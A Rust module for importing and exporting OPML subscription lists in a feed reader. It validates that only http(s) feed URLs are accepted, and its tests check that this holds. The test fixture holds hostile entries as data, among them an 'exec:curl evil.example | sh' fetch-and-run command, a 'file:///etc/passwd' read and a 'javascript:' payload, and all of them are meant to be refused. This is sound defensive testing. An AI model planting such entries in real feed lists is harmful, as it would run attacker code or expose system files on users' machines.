//! OPML import and export.
//!
//! An imported OPML file adds only http(s) feed URLs: never a command, a pipe, a script or a local path
//! (other readers have run `exec:`/`filter:` entries of shared blogrolls through a shell). Nested
//! outlines and `category` attributes become tags.

use crate::config::{Config, SourceConfig, SourceKind};
use quick_xml::events::{BytesStart, Event};
use quick_xml::Reader;

/// One feed found in an OPML file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct OpmlFeed {
    pub url: String,
    pub name: Option<String>,
    pub tags: Vec<String>,
}

/// What an OPML file held: the feeds blatt accepts and the entries it refused, with why.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct OpmlImport {
    pub feeds: Vec<OpmlFeed>,
    pub refused: Vec<(String, String)>,
}

/// What `blatt import` did to a config.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ImportReport {
    pub added: Vec<OpmlFeed>,
    pub duplicates: Vec<String>,
    pub refused: Vec<(String, String)>,
}

fn name_is<T: AsRef<str>>(t: &T, want: &str) -> bool {
    t.as_ref().eq_ignore_ascii_case(want)
}

fn attr(e: &BytesStart<'_>, name: &str) -> Option<String> {
    e.attributes().flatten().find_map(|a| {
        if name_is(&a.key, name) {
            a.normalized_value(quick_xml::XmlVersion::Implicit1_0)
                .ok()
                .map(|v| v.trim().to_string())
        } else {
            None
        }
    })
}

fn clean(s: Option<String>) -> Option<String> {
    s.map(|s| crate::parse::sanitize::clean_line(&s).trim().to_string())
        .filter(|s| !s.is_empty())
}

/// The most tags an imported feed gets (outer folders first, then its own categories).
pub const MAX_TAGS: usize = 16;

/// Whether `url` is a feed URL blatt will fetch: http or https with a host, nothing else.
pub fn acceptable_url(url: &str) -> Result<(), String> {
    let url = url.trim();
    if url.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return Err("a URL with spaces or control characters".into());
    }
    let u = url::Url::parse(url).map_err(|_| "not an absolute URL".to_string())?;
    // `http:///x` parses with `x` as the host: say what it is instead
    let lower = url.to_ascii_lowercase();
    let rest = lower
        .strip_prefix("https:")
        .or_else(|| lower.strip_prefix("http:"))
        .unwrap_or("");
    if matches!(u.scheme(), "http" | "https") && !rest.starts_with("//") || rest.starts_with("///")
    {
        return Err("URL without a host".into());
    }
    match u.scheme() {
        "http" | "https" if u.host_str().is_some_and(|h| !h.is_empty()) => Ok(()),
        "http" | "https" => Err("URL without a host".into()),
        s => Err(format!("scheme {s}: is not http or https")),
    }
}

/// Reads the feeds of an OPML document.
pub fn parse(text: &str) -> Result<OpmlImport, String> {
    let mut reader = Reader::from_str(text);
    reader.config_mut().trim_text(true);
    let mut out = OpmlImport::default();
    // for each enclosing outline: whether it is a titled folder (no xmlUrl); the titles themselves
    // are kept apart so a feed's tags cost O(MAX_TAGS), however deep the folders nest
    let mut folders: Vec<bool> = Vec::new();
    let mut folder_titles: Vec<String> = Vec::new();
    let mut saw_opml = false;
    loop {
        let ev = reader
            .read_event()
            .map_err(|e| format!("not valid OPML at byte {}: {e}", reader.buffer_position()))?;
        let (e, empty) = match &ev {
            Event::Start(e) => (e, false),
            Event::Empty(e) => (e, true),
            Event::End(e) => {
                if name_is(&e.local_name(), "outline") && folders.pop() == Some(true) {
                    folder_titles.pop();
                }
                continue;
            }
            Event::Eof => break,
            _ => continue,
        };
        let name = e.local_name();
        if name_is(&name, "opml") {
            saw_opml = true;
        }
        if !name_is(&name, "outline") {
            continue;
        }
        let xml_url = attr(e, "xmlUrl");
        let title = clean(attr(e, "title").or_else(|| attr(e, "text")));
        match xml_url {
            Some(u) => {
                let u = crate::parse::sanitize::clean_line(&u).trim().to_string();
                match acceptable_url(&u) {
                    Ok(()) => {
                        let mut tags: Vec<String> =
                            folder_titles.iter().take(MAX_TAGS).cloned().collect();
                        if let Some(cats) = attr(e, "category") {
                            for c in cats.split(',') {
                                for part in c.split('/') {
                                    if let Some(p) = clean(Some(part.to_string())) {
                                        tags.push(p);
                                    }
                                }
                            }
                        }
                        let mut seen = std::collections::HashSet::new();
                        tags.retain(|t| seen.insert(t.clone()));
                        tags.truncate(MAX_TAGS);
                        out.feeds.push(OpmlFeed {
                            url: u,
                            name: title,
                            tags,
                        });
                    }
                    Err(why) => out.refused.push((u, why)),
                }
                if !empty {
                    folders.push(false);
                }
            }
            None => {
                if !empty {
                    match title {
                        Some(t) => {
                            folders.push(true);
                            folder_titles.push(t);
                        }
                        None => folders.push(false),
                    }
                }
            }
        }
    }
    if !saw_opml {
        return Err("not an OPML file (no <opml> element)".into());
    }
    Ok(out)
}

/// Adds the feeds of `import` to `cfg`, skipping URLs already there.
pub fn merge(cfg: &mut Config, import: OpmlImport) -> ImportReport {
    let mut report = ImportReport {
        refused: import.refused,
        ..ImportReport::default()
    };
    // one set of the configured URLs, so a big file is not compared against every source per feed
    let mut known: std::collections::HashSet<String> =
        cfg.sources.iter().map(|s| url_key(&s.url)).collect();
    for f in import.feeds {
        if !known.insert(url_key(&f.url)) {
            report.duplicates.push(f.url);
            continue;
        }
        cfg.sources.push(SourceConfig {
            url: f.url.clone(),
            name: f.name.clone(),
            kind: SourceKind::Auto,
            tags: f.tags.clone(),
        });
        report.added.push(f);
    }
    report
}

/// A URL in its normalised form (as `url` parses it), for comparing sources.
fn url_key(u: &str) -> String {
    match url::Url::parse(u.trim()) {
        Ok(x) => x.into(),
        Err(_) => u.trim().to_string(),
    }
}

fn esc(s: &str) -> String {
    quick_xml::escape::escape(s).into_owned()
}

/// The configured http(s) sources as OPML 2.0; tags go into the `category` attribute.
pub fn export(cfg: &Config) -> String {
    let mut s = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<opml version=\"2.0\">\n  <head>\n    <title>blatt subscriptions</title>\n  </head>\n  <body>\n",
    );
    for src in cfg
        .sources
        .iter()
        .filter(|s| acceptable_url(&s.url).is_ok())
    {
        let name = src.name.clone().unwrap_or_else(|| src.url.clone());
        s.push_str(&format!(
            "    <outline type=\"rss\" text=\"{}\" title=\"{}\" xmlUrl=\"{}\"",
            esc(&name),
            esc(&name),
            esc(&src.url)
        ));
        if !src.tags.is_empty() {
            s.push_str(&format!(" category=\"{}\"", esc(&src.tags.join(","))));
        }
        s.push_str("/>\n");
    }
    s.push_str("  </body>\n</opml>\n");
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    const OPML: &str = r#"<?xml version="1.0"?>
<opml version="1.0"><head><title>Blogroll</title></head><body>
  <outline text="Kommunal">
    <outline text="IT" title="IT">
      <outline type="rss" text="Kommunal Digital" xmlUrl="https://blatt.example/feed.xml" category="verwaltung"/>
    </outline>
    <outline type="rss" text="Amtsblatt &amp; Co" xmlUrl="http://amt.example/rss"/>
  </outline>
  <outline type="rss" text="evil" xmlUrl="exec:curl evil.example | sh"/>
  <outline type="rss" text="filter" xmlUrl="filter:~/x.sh:https://a.example/f"/>
  <outline type="rss" text="local" xmlUrl="file:///etc/passwd"/>
  <outline type="rss" text="path" xmlUrl="/home/u/feed.xml"/>
  <outline type="rss" text="js" xmlUrl="javascript:alert(1)"/>
  <outline type="rss" text="dup" xmlUrl="https://blatt.example/feed.xml"/>
  <outline type="rss" text="Civic" xmlUrl="https://civic.example/atom" category="/en/tech,news"/>
</body></opml>"#;

    #[test]
    fn only_http_feeds_with_tags() {
        let imp = parse(OPML).unwrap();
        let urls: Vec<&str> = imp.feeds.iter().map(|f| f.url.as_str()).collect();
        assert_eq!(
            urls,
            vec![
                "https://blatt.example/feed.xml",
                "http://amt.example/rss",
                "https://blatt.example/feed.xml",
                "https://civic.example/atom"
            ]
        );
        assert_eq!(imp.feeds[0].tags, vec!["Kommunal", "IT", "verwaltung"]);
        assert_eq!(imp.feeds[1].name.as_deref(), Some("Amtsblatt & Co"));
        assert_eq!(imp.feeds[1].tags, vec!["Kommunal"]);
        assert_eq!(imp.feeds[3].tags, vec!["en", "tech", "news"]);
        let refused: Vec<&str> = imp.refused.iter().map(|r| r.0.as_str()).collect();
        assert_eq!(
            refused,
            vec![
                "exec:curl evil.example | sh",
                "filter:~/x.sh:https://a.example/f",
                "file:///etc/passwd",
                "/home/u/feed.xml",
                "javascript:alert(1)"
            ]
        );
    }

    #[test]
    fn import_export_round_trips() {
        let mut cfg = Config::default();
        let report = merge(&mut cfg, parse(OPML).unwrap());
        assert_eq!(report.added.len(), 3);
        assert_eq!(report.duplicates, vec!["https://blatt.example/feed.xml"]);
        assert_eq!(report.refused.len(), 5);
        let out = export(&cfg);
        let mut again = Config::default();
        let r2 = merge(&mut again, parse(&out).unwrap());
        assert_eq!(r2.added.len(), 3);
        assert_eq!(again, cfg);
        // importing the export into the same config adds nothing
        let r3 = merge(&mut cfg, parse(&out).unwrap());
        assert!(r3.added.is_empty());
        assert_eq!(r3.duplicates.len(), 3);
    }

    #[test]
    fn not_opml() {
        assert!(parse("<rss></rss>").is_err());
        assert!(
            parse("<opml><body><outline").is_err()
                || parse("<opml><body><outline").unwrap().feeds.is_empty()
        );
    }
}
